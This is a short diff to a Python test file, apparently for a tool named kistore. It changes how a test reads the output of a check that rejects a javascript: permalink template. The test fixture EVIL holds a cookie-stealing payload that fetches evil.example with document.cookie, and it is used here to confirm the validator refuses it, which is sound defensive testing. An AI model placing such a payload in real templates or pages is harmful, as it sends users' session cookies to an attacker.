@@ -21,7 +21,7 @@ from kistore.cli import main
 from kistore.core.errors import InputError
 from kistore.core.settings import LINK_FIX, template_fields
 
-from ..conftest import git
+from ..conftest import findings_lines, git
 
 EVIL = "javascript:fetch(`//evil.example/`+document.cookie)//{commit}/{path}"
 """The reviewer's template."""
@@ -111,7 +111,7 @@ def test_the_gate_refuses_a_javascript_permalink_as_ki108(runner, published):
     set_template(published, EVIL)
     result = runner.invoke(main, ["--store", str(published), "check", f"{base}..HEAD"])
     assert result.exit_code == 1
-    assert result.output.splitlines() == [
+    assert findings_lines(result.output) == [
         "kistore.toml:5:1:/cite/permalink: error KI108 settings-invalid: "
         + refusal(EVIL, "it has the scheme 'javascript:', not https: or http:").removeprefix(
             "kistore.toml: "),
